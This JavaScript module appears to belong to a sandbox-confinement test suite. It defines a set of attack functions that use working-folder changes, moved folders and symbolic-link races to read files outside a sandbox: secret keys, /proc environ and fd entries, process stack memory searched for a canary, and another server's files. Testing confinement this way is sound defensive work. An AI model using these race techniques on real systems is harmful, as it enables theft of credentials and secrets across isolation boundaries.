// Reads of files outside by races.
import * as fs from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { raceByChdir, raceByMovedFolder, raceByWalk } from "../races.mjs";

const readText = (path) => fs.promises.readFile(path, "utf8");
const chdirTo =
  (choose, use = readText) =>
  (targets) =>
    raceByChdir(targets, choose(targets), use);

const byCallback = (path) =>
  new Promise((resolve, reject) => {
    fs.readFile(path, "utf8", (error, text) => (error ? reject(error) : resolve(text)));
  });

async function readHandle(path) {
  const handle = await fs.promises.open(path, "r");
  try {
    return await handle.readFile("utf8");
  } finally {
    await handle.close();
  }
}

const readStart = (path) =>
  new Promise((resolve, reject) => {
    fs.createReadStream(path)
      .on("data", (data) => resolve(String(data)))
      .on("error", reject);
  });

/** The environment lies at the end of the stack. */
async function readStack({ servicePid, ...targets }) {
  const maps = await raceByChdir(targets, `/proc/${servicePid}/maps`, readText);
  const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) .*\[stack\]$/m.exec(maps ?? "") ?? [];
  if (from === undefined) throw new Error("The maps were not read.");
  const open = (path) => fs.promises.open(path, "r");
  const handle = await raceByChdir(targets, `/proc/${servicePid}/mem`, open);
  if (handle === undefined) throw new Error("The memory was not opened.");
  const [start, end] = [BigInt(`0x${from}`), BigInt(`0x${to}`)];
  const { buffer, bytesRead } = await handle.read(Buffer.alloc(Number(end - start)), 0, Number(end - start), start);
  await handle.close();
  const text = buffer.subarray(0, bytesRead).toString("latin1");
  const at = text.indexOf("FAIRLEAD_CANARY");
  return at < 0 ? undefined : text.slice(at, at + 100);
}

export const attacks = {
  "read a key, changing the folder": chdirTo(({ secretFile }) => secretFile),
  "read a key by a callback, changing the folder": chdirTo(({ secretFile }) => secretFile, byCallback),
  "read a key by a handle, changing the folder": chdirTo(({ secretFile }) => secretFile, readHandle),
  "read a key by a stream, changing the folder": chdirTo(({ secretFile }) => secretFile, readStart),
  "read a file elsewhere, changing the folder": chdirTo(({ elsewhereFile }) => elsewhereFile),
  "read the service's file, changing the folder": chdirTo(({ serviceFile }) => serviceFile),
  "read /dev/shm, changing the folder": chdirTo(({ shmFile }) => shmFile),
  "read another server's files, changing the folder": chdirTo(({ otherFolder }) => `${otherFolder}/secret.txt`),
  "read the service's environment, changing the folder": chdirTo(({ servicePid }) => `/proc/${servicePid}/environ`),
  "read another server's environment, changing the folder": chdirTo(({ otherPid }) => `/proc/${otherPid}/environ`),
  "read a descriptor of the service, changing the folder": chdirTo(({ servicePid }) => `/proc/${servicePid}/fd/7`),
  "read through the service's root, changing the folder": chdirTo(
    ({ servicePid, secretFile }) => `/proc/${servicePid}/root${secretFile}`,
  ),
  "read the service's memory, changing the folder": readStack,
  "list a folder, changing the folder": chdirTo(
    ({ home }) => home,
    async (path) => {
      const names = await fs.promises.readdir(path);
      return names.length > 0 ? names : undefined;
    },
  ),
};

/** A link that was made by a race is read by a race too, because its path is checked as well. */
async function readLink(targets, make) {
  const link = join(tmpdir(), "made");
  await raceByChdir(targets, targets.secretFile, (path) => make(path, link).then(() => true));
  return readText(link);
}

/** Writes link texts that lead out, where a relative text is checked in one folder and followed in another. */
async function readMovedLink(targets) {
  const deep = join(tmpdir(), "links/".repeat(40));
  fs.mkdirSync(deep, { recursive: true });
  fs.symlinkSync("../".repeat(40) + targets.secretFile.slice(1), join(deep, "link"));
  fs.renameSync(join(deep, "link"), join(tmpdir(), "link"));
  return readText(join(tmpdir(), "link"));
}

export const scriptAttacks = {
  "read a key, moving the working folder": (targets) => raceByMovedFolder(targets, targets.secretFile, readText),
  "read the service's file, moving the working folder": (targets) =>
    raceByMovedFolder(targets, targets.serviceFile, readText),
  "read a key, moving a folder of the path": (targets) => raceByWalk(targets, targets.secretFile, readText),
  "read the service's file, moving a folder of the path": (targets) =>
    raceByWalk(targets, targets.serviceFile, readText),
  "read the service's environment, moving a folder of the path": (targets) =>
    raceByWalk(targets, `/proc/${targets.servicePid}/environ`, readText),
  "copy a key here, changing the folder": (targets) =>
    readLink(targets, (path, copy) => fs.promises.copyFile(path, copy)),
  "link a key here, changing the folder": (targets) => readLink(targets, (path, link) => fs.promises.link(path, link)),
  "move a file here, changing the folder": async (targets) => {
    const moved = join(tmpdir(), "moved");
    await raceByChdir(targets, targets.sacrificeFile, (path) => fs.promises.rename(path, moved).then(() => true));
    return readText(moved);
  },
  "move a symbolic link and read it": readMovedLink,
  "read by a stale working folder": (targets) => {
    const deep = join(tmpdir(), "stale/".repeat(40));
    fs.mkdirSync(deep, { recursive: true });
    process.chdir(deep);
    process.cwd();
    fs.renameSync(deep, join(tmpdir(), "moved-folder"));
    const path = "../".repeat(40) + targets.secretFile.slice(1);
    const ways = [
      () => fs.readFileSync(path, "utf8"),
      () => fs.readFileSync(fs.openSync(path), "utf8"),
      () => fs.cpSync(path, join(tmpdir(), "copied")) ?? fs.readFileSync(join(tmpdir(), "copied"), "utf8"),
    ];
    for (const way of ways) {
      try {
        return way();
      } catch {
        // The next way follows.
      }
    }
    return undefined;
  },
};
